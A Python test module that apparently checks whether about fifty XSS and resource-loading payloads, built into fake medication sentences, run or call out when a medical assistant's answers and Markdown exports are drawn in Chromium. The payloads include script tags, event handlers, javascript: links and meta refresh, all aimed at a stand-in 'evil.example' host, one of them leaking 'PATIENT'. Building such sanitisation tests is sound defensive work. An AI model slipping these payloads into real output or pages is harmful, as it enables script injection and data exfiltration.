"""Links, images, HTML and scripts in a model's words: does any of them work in a real browser, in an answer or an export?

Owns 100 payloads and the harshest reader of them: each is shown as a checked sentence, as a withheld one, and as an exported
Markdown file drawn by a renderer that allows HTML and links whatever looks like an address.
"""

from __future__ import annotations

import itertools
import shutil
from collections.abc import Iterator
from contextlib import ExitStack
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

from evals.suite import Suite

FULL = 100
HOST = "http://evil.example"
_RUN = "window.__ran=(window.__ran||0)+1"
_SHAPES = (
    "![x]({u}/i.png)", "[click]({u}/c)", "<img src={u}/i.png>", '<img src=x onerror="{r}">', "<script>{r}</script>",
    '<script src="{u}/s.js"></script>', "[a](javascript:{r})", "<a href='javascript:{r}'>a</a>", "{u}/bare", "www.evil.example/bare",
    "//evil.example/relative", "<iframe src={u}/f></iframe>", '<svg onload="{r}"></svg>', "<svg><image href='{u}/s.png'/></svg>",
    "<style>@import '{u}/s.css';</style>", '<p style="background:url({u}/b.png)">x</p>', "<link rel=stylesheet href={u}/l.css>",
    "<meta http-equiv=refresh content='0;url={u}'>", "<object data={u}/o></object>", "<embed src={u}/e>", "<video poster={u}/p.png></video>",
    "<audio src={u}/a.mp3 autoplay></audio>", "<form action={u}/f><input autofocus onfocus='{r}'></form>", "<base href={u}/>",
    "[x]: {u}/ref\n\n![x][x]", "<{u}/auto>", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "[x](data:text/html,<script>{r}</script>)", "&lt;img src={u}/e.png&gt;", "<details open ontoggle='{r}'>x</details>",
    "<math><mtext><img src={u}/m.png></mtext></math>", "<body onload='{r}'>", "<img srcset='{u}/1.png 1x'>", "<a href={u} ping={u}/p>x</a>",
    "<picture><source srcset={u}/q.png></picture>", "<input type=image src={u}/n.png>", "<track src={u}/t.vtt>", "`<img src={u}/c.png>`",
    "[![x]({u}/n.png)]({u}/n)", "<!--><img src={u}/k.png>-->", "<scr\u200bipt>{r}</scr\u200bipt>", "<img/src={u}/sl.png>",
    "<IMG SRC={u}/up.png>", "&#60;img src={u}/ent.png&#62;", "<x onclick='{r}' style='position:fixed;inset:0'>x</x>",
    "<template><img src={u}/tp.png></template>", "<noscript><img src={u}/ns.png></noscript>", "<portal src={u}/po></portal>",
    "<img src='{u}/q.png' loading=eager>", "![x]({u}/?q=PATIENT 'title')",
)  # fmt: skip
_AROUND = ("Give amoxicillin 500 mg. {p}", "{p} Continue for 5 days.")


def payloads(number: int = FULL) -> Iterator[str]:
    """Sentences with a payload each."""
    for around, shape in itertools.islice(itertools.product(_AROUND, _SHAPES), number):
        yield around.replace("{p}", shape.replace("{u}", HOST).replace("{r}", _RUN))


def documents(texts: list[str]) -> tuple[list[Any], list[str]]:
    """For each payload the blocks that the page draws, and the export's Markdown as HTML."""
    from markdown_it import MarkdownIt

    from assistant.conversation import _guard_out
    from assistant.domain.answer import Answer, Origin, Section, Sentence, Verdict, Withheld
    from assistant.domain.events import SentenceShown, SentenceWithheld
    from assistant.export.markdown import to_markdown

    reader = MarkdownIt("commonmark", {"html": True})
    blocks, pages = [], []
    for text in texts:
        shown = _guard_out(SentenceShown("answer", Sentence(text, Verdict.SUPPORTED, Origin.MODEL)))
        held = _guard_out(SentenceWithheld(Withheld(text, "not in the evidence")))
        assert isinstance(shown, SentenceShown)
        assert isinstance(held, SentenceWithheld)
        section = Section("answer", "Answer", (shown.sentence,))
        answer = Answer("ask", "en", "m", (section,), withheld=(held.withheld,))
        answer = replace(answer, text=to_markdown(answer))
        pages.append(reader.render(answer.text))
        # As kept and as drawn: the words of the history are those of the payload itself, not only the calmed ones.
        for words in (shown.sentence.text, text):
            blocks.append(_drawn(words))
    return blocks, pages


def _drawn(words: str) -> list[dict[str, Any]]:
    """The words in each kind of block that a model's, a guideline's or a user's text can stand in."""
    mark = [{"mark": "G1", "title": words}]
    line = {
        "kind": "line",
        "text": words,
        "tone": "model",
        "label": "model",
        "why": words,
        "marks": mark,
        "edit": "",
    }
    alert = {"kind": "alert", "tone": "red", "title": words, "text": words, "marks": mark, "small": words}
    held = {"kind": "withheld", "text": words, "why": words}
    return [
        line,
        alert,
        held,
        {"kind": "bubble", "text": words},
        {"kind": "fold", "title": words, "open": True, "items": [line]},
    ]


def in_browser(number: int = FULL, *, calmed: bool = True, opened: Any = None) -> dict[str, Any]:
    """Draws all of it in Chromium and counts what was asked for and what ran. Raises ImportError without a browser.

    ``opened`` is a Chromium that runs already (a test session has one); without it one is started and closed.

    ``calmed`` False shows the payloads as they are, which the count must notice.
    """
    texts = list(payloads(number))
    blocks, pages = documents(texts)
    if not calmed:
        pages = [f"<p>{text}</p>" for text in texts]
    with ExitStack() as stack:
        page = (opened or _chromium(stack)).new_page()
        stack.callback(page.close)
        watched = _watch(page)
        drawn, texts_on_page = _draw_sheet(page, watched, blocks)
        on_sheet = len(watched.foreign)
        _draw_exports(page, watched, pages)
    return {
        "payloads": number,
        "drawn": drawn,
        "texts_on_page": texts_on_page,
        "foreign_requests": len(watched.foreign),
        "foreign_requests_page": on_sheet,
        "scripts_run": watched.ran + len(watched.dialogs),
        "live_links_in_exports": sum('href="' in html or "<img" in html for html in pages),
        "rows": watched.foreign[:20],
    }


@dataclass
class _Watched:
    """What a page did that a harmless one does not: addresses asked for, dialogs opened, scripts run."""

    foreign: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)
    ran: int = 0


def _chromium(stack: ExitStack) -> Any:
    from playwright.sync_api import sync_playwright

    path = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if path is None:
        raise ImportError("no Chromium is installed")
    playwright = stack.enter_context(sync_playwright())
    browser = playwright.chromium.launch(executable_path=path, args=["--no-sandbox", "--disable-gpu"])
    stack.callback(browser.close)
    return browser


def _watch(page: Any) -> _Watched:
    watched = _Watched()

    def asked(request: Any) -> None:
        if not request.url.startswith(("data:", "blob:", "about:")):
            watched.foreign.append(request.url)

    def spoke(dialog: Any) -> None:
        watched.dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("request", asked)
    page.on("dialog", spoke)
    page.route("**/*", lambda route: route.abort() if "evil" in route.request.url else route.continue_())
    return watched


def _draw_sheet(page: Any, watched: _Watched, blocks: list[Any]) -> tuple[int, int]:
    """The app's own sheet with every payload; gives how many drew anything and how many texts can be read."""
    components = Path(__file__).parent.parent / "assistant" / "ui" / "components"
    page.set_content("<body></body>")
    drawn = page.evaluate(_DRAW, [(components / "sheet.js").read_text("utf-8"), blocks])
    texts = page.evaluate("document.body.innerText.split('amoxicillin').length - 1")
    page.wait_for_timeout(500)
    watched.ran += page.evaluate("window.__ran || 0")
    return drawn, texts


def _draw_exports(page: Any, watched: _Watched, pages: list[str]) -> None:
    from playwright.sync_api import Error

    for html in pages:
        try:
            page.set_content(f"<body>{html}</body>", wait_until="commit")
            watched.ran += page.evaluate("window.__ran || 0")
        except Error:  # the text led the page away
            watched.foreign.append("navigation")
    page.wait_for_timeout(500)


_DRAW = """async ([script, all]) => {
  const module = await import(URL.createObjectURL(new Blob([script], {type: 'text/javascript'})));
  let drawn = 0;
  for (const blocks of all) {
    const root = document.body.appendChild(document.createElement('div'));
    root.appendChild(document.createElement('div')).className = 'sheet';
    module.default({data: {blocks, words: {}, language: 'en', chosen: null}, parentElement: root, setTriggerValue: () => {}, setStateValue: () => {}});
    drawn += root.innerText.trim().length > 0;
  }
  return drawn;
}"""


def run(_: Path) -> dict[str, Any]:
    try:
        return in_browser()
    except ImportError as missing:
        return {"payloads": 0, "not_run": str(missing)}


SUITE = Suite("payloads", "100 live links, images and scripts in a model's words, in a real browser", "", run)
